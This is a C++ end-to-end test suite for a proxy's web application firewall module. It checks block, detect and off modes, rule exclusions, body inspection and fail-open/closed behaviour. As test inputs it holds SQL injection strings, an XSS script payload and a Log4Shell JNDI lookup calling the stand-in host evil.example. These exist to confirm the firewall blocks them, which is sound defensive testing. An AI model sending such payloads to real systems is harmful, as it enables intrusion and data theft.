// The WAF end to end: the real `aegis serve` binary with the WAF module built from modules/waf (and failing WAT
// modules) in front of the real test origin; block / detect / off modes, exclusions, on_error, request bodies,
// metrics and the access log.
#include <gtest/gtest.h>

#include <chrono>
#include <functional>
#include <optional>
#include <string>
#include <thread>

#include "support/aegis_process.h"
#include "support/origin_process.h"
#include "support/raw_client.h"
#include "support/polling.h"

using namespace aegis::test;

namespace {

std::string wasm(const std::string& name) { return std::string(AEGIS_WASM_DIR) + "/" + name + ".wasm"; }


// A serve config: `waf` section lines (indented under waf:) and route items.
// Verdict tests must not depend on how loaded the machine is: unless a test sets its own, the analysis deadline is
// generous (the 10 ms default fails open on a machine busy with parallel builds and sanitizer runs).
std::string config(const std::string& waf, const std::string& routes) {
  std::string w = waf.find("timeout:") == std::string::npos ? waf + "  timeout: 5s\n" : waf;
  return config_preamble() + "waf:\n  enabled: true\n" + w + "routes:\n" + routes;
}

std::string route(const std::string& prefix, const std::string& waf = {}) {
  return "  - path_prefix: " + prefix + "\n    origin: origin\n" + (waf.empty() ? "" : "    waf:\n" + waf);
}

const std::string kSqli = "/?id=1%20UNION%20SELECT%20password%20FROM%20users";
const std::string kXss = "?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E";

class Waf : public ::testing::Test {
 protected:
  void start(const std::string& yaml) {
    Vars vars{{"ORIGIN_PORT", std::to_string(origin.port())}};
    std::string error;
    ASSERT_TRUE(aegis.start(yaml, vars, &error)) << error;
  }
  std::string metrics() { return http_get(aegis.admin_port(), "/metrics").body; }
  std::string log_line(const std::string& request_id) {
    std::string line;
    eventually([&] {
      std::string text = aegis.access_log_text();
      std::size_t p = text.find("\"" + request_id + "\"");
      if (p == std::string::npos) return false;
      std::size_t s = text.rfind('\n', p);
      std::size_t e = text.find('\n', p);
      line = text.substr(s == std::string::npos ? 0 : s + 1, e == std::string::npos ? std::string::npos : e - s - 1);
      return true;
    });
    return line;
  }
  OriginProcess origin;
  AegisProcess aegis;
};

}  // namespace

TEST_F(Waf, BlockModeAnswers403WithTheRequestIdAndLogsTheRules) {
  start(config("", route("/")));
  auto ok = http_get(aegis.port(), "/products?id=42", {{"x-request-id", "waf-pass-1"}});
  EXPECT_EQ(ok.status, 200);
  auto blocked = http_get(aegis.port(), kSqli, {{"x-request-id", "waf-block-1"}});
  EXPECT_EQ(blocked.status, 403);
  EXPECT_NE(blocked.body.find("waf-block-1"), std::string::npos) << blocked.body;
  EXPECT_EQ(origin.targets(), (std::vector<std::string>{"/products?id=42"}));

  std::string line = log_line("waf-block-1");
  EXPECT_NE(line.find("\"waf\":\"block\""), std::string::npos) << line;
  EXPECT_NE(line.find("942100"), std::string::npos) << line;
  EXPECT_NE(line.find("\"waf_score\":"), std::string::npos) << line;
  std::string pass = log_line("waf-pass-1");
  EXPECT_NE(pass.find("\"waf\":\"pass\""), std::string::npos) << pass;

  std::string m = metrics();
  EXPECT_EQ(metric_value(m, R"(waf_requests_total{verdict="block"})"), 1);
  EXPECT_EQ(metric_value(m, R"(waf_requests_total{verdict="pass"})"), 1);
  EXPECT_EQ(metric_value(m, R"(waf_rule_matches_total{rule="942100"})"), 1);
  EXPECT_EQ(metric_value(m, "waf_execution_time_seconds_count"), 2);
}

TEST_F(Waf, DetectModeLetsTheRequestThroughAndOffModeSkipsInspection) {
  start(config("", route("/detect", "      mode: detect\n") + route("/off", "      mode: off\n") + route("/")));
  auto d = http_get(aegis.port(), "/detect" + kXss, {{"x-request-id", "waf-detect-1"}});
  EXPECT_EQ(d.status, 200);
  auto o = http_get(aegis.port(), "/off" + kXss, {{"x-request-id", "waf-off-1"}});
  EXPECT_EQ(o.status, 200);
  EXPECT_EQ(http_get(aegis.port(), "/block" + kXss).status, 403);
  ASSERT_TRUE(origin.wait_for_requests(2));
  EXPECT_EQ(origin.targets(), (std::vector<std::string>{"/detect" + kXss, "/off" + kXss}));

  std::string dl = log_line("waf-detect-1");
  EXPECT_NE(dl.find("\"waf\":\"detect\""), std::string::npos) << dl;
  EXPECT_NE(dl.find("941100"), std::string::npos) << dl;
  std::string ol = log_line("waf-off-1");
  EXPECT_EQ(ol.find("\"waf\""), std::string::npos) << ol;
  std::string m = metrics();
  EXPECT_EQ(metric_value(m, R"(waf_requests_total{verdict="detect"})"), 1);
  EXPECT_EQ(metric_value(m, R"(waf_requests_total{verdict="block"})"), 1);
}

TEST_F(Waf, ExclusionsByRuleIdAndArgumentNamePerRoute) {
  start(config("", route("/cms", "      exclude_args: [body_html]\n") +
                       route("/search", "      exclude_rules: [941100, 941140]\n") + route("/")));
  std::string payload = "%3Cscript%3Ealert(1)%3C%2Fscript%3E";
  EXPECT_EQ(http_get(aegis.port(), "/cms/save?body_html=" + payload).status, 200);
  EXPECT_EQ(http_get(aegis.port(), "/cms/save?title=" + payload).status, 403);
  EXPECT_EQ(http_get(aegis.port(), "/search?q=" + payload).status, 200);
  EXPECT_EQ(http_get(aegis.port(), "/search?q=1%20UNION%20SELECT%201").status, 403);  // other rules still apply
  EXPECT_EQ(http_get(aegis.port(), "/other?q=" + payload).status, 403);
}

TEST_F(Waf, InspectsFormAndJsonBodiesAndForwardsThemIntact) {
  start(config("", route("/")));
  std::string form = "name=O%27Brien&comment=%27+OR+%271%27%3D%271";
  auto f = http_request(aegis.port(), "POST", "/form", {{"content-type", "application/x-www-form-urlencoded"}}, form);
  EXPECT_EQ(f.status, 403);
  std::string json = R"({"user":{"bio":"${jndi:ldap://evil.example/a}"}})";
  auto j = http_request(aegis.port(), "POST", "/api", {{"content-type", "application/json"}}, json);
  EXPECT_EQ(j.status, 403);
  std::string good = R"({"user":{"name":"Shaquille O'Neal","bio":"I like SQL; select * from life"}})";
  auto g = http_request(aegis.port(), "POST", "/echo", {{"content-type", "application/json"}}, good);
  EXPECT_EQ(g.status, 200);
  ASSERT_TRUE(origin.wait_for_requests(1));
  EXPECT_EQ(origin.targets(), (std::vector<std::string>{"/echo"}));
  EXPECT_NE(g.body.find("Shaquille O'Neal"), std::string::npos) << g.body;  // /echo returns the request body
}

TEST_F(Waf, ParanoiaAndThresholdPerRoute) {
  start(config("", route("/strict", "      paranoia: 2\n") + route("/lenient", "      threshold: 10\n") + route("/")));
  std::string tag = "?q=%3Cb%3Ehi%3C%2Fb%3E";  // any HTML tag: a paranoia-2 rule (score 3)
  EXPECT_EQ(http_get(aegis.port(), "/default" + tag).status, 200);
  // with a User-Agent: the test client sends none, and at paranoia 2 a missing User-Agent (920320, notice 2) would
  // add to the tag's 3 and reach the threshold
  auto strict = http_get(aegis.port(), "/strict" + tag,
                         {{"x-request-id", "waf-pl2"}, {"user-agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0"}});
  EXPECT_EQ(strict.status, 200);  // score 3 < 5
  std::string pl2 = log_line("waf-pl2");
  EXPECT_NE(pl2.find("\"waf_score\":3,"), std::string::npos) << pl2;
  EXPECT_NE(pl2.find("\"waf_rules\":\"941160\""), std::string::npos) << pl2;
  EXPECT_EQ(http_get(aegis.port(), "/lenient" + kXss).status, 200);  // score 5+3 < 10
  EXPECT_EQ(http_get(aegis.port(), "/lenient" + kXss + "&x=1%20UNION%20SELECT%201").status, 403);
}

TEST_F(Waf, ModuleFailureFollowsOnErrorOpenOrClosed) {
  start(config("  module: " + wasm("waf_trap") + "\n",
               route("/closed", "      on_error: closed\n") + route("/")));
  auto open = http_get(aegis.port(), "/open" + kXss, {{"x-request-id", "waf-open-1"}});
  EXPECT_EQ(open.status, 200);
  auto closed = http_get(aegis.port(), "/closed", {{"x-request-id", "waf-closed-1"}});
  EXPECT_EQ(closed.status, 503);
  EXPECT_NE(closed.body.find("waf-closed-1"), std::string::npos) << closed.body;
  EXPECT_NE(closed.body.find("(trap)"), std::string::npos) << closed.body;
  EXPECT_NE(log_line("waf-open-1").find("\"waf\":\"error\""), std::string::npos);
  EXPECT_EQ(metric_value(metrics(), R"(waf_requests_total{verdict="error"})"), 2);
  EXPECT_EQ(origin.targets(), (std::vector<std::string>{"/open" + kXss}));
}

TEST_F(Waf, EndlessModuleIsStoppedByFuelAndByTheDeadline) {
  start(config("  module: " + wasm("waf_loop") + "\n  fuel: 100000\n", route("/", "      on_error: closed\n")));
  auto fuel = http_get(aegis.port(), "/x", {{"x-request-id", "waf-fuel-1"}});
  EXPECT_EQ(fuel.status, 503);
  EXPECT_NE(fuel.body.find("(fuel)"), std::string::npos) << fuel.body;
  aegis.stop();

  AegisProcess slow;
  std::string error;
  ASSERT_TRUE(slow.start(config("  module: " + wasm("waf_loop") + "\n  fuel: 0\n  timeout: 20ms\n",
                                route("/", "      on_error: closed\n")),
                         {{"ORIGIN_PORT", std::to_string(origin.port())}}, &error))
      << error;
  auto t = http_get(slow.port(), "/x");
  EXPECT_EQ(t.status, 503);
  EXPECT_NE(t.body.find("(timeout)"), std::string::npos) << t.body;
  EXPECT_EQ(http_get(slow.port(), "/y").status, 503);  // the worker keeps serving
  EXPECT_TRUE(origin.targets().empty());
}

TEST_F(Waf, ReferenceStyleModuleAndHostSideRuleExclusion) {
  start(config("  module: " + wasm("waf_reference") + "\n",
               route("/excluded", "      exclude_rules: [100001]\n") + route("/")));
  EXPECT_EQ(http_get(aegis.port(), "/anything").status, 403);
  EXPECT_EQ(http_get(aegis.port(), "/excluded/anything").status, 200);
}

TEST_F(Waf, ConfigErrorsNameTheKey) {
  AegisProcess bad;
  std::string error;
  EXPECT_FALSE(bad.start(config("  module: /nonexistent/waf.wasm\n", route("/")),
                         {{"ORIGIN_PORT", std::to_string(origin.port())}}, &error));
  EXPECT_NE(error.find("waf.module"), std::string::npos) << error;
  AegisProcess bad_rule;
  EXPECT_FALSE(bad_rule.start(config("", route("/", "      exclude_rules: [abc]\n")),
                              {{"ORIGIN_PORT", std::to_string(origin.port())}}, &error));
  EXPECT_NE(error.find("exclude_rules"), std::string::npos) << error;
}
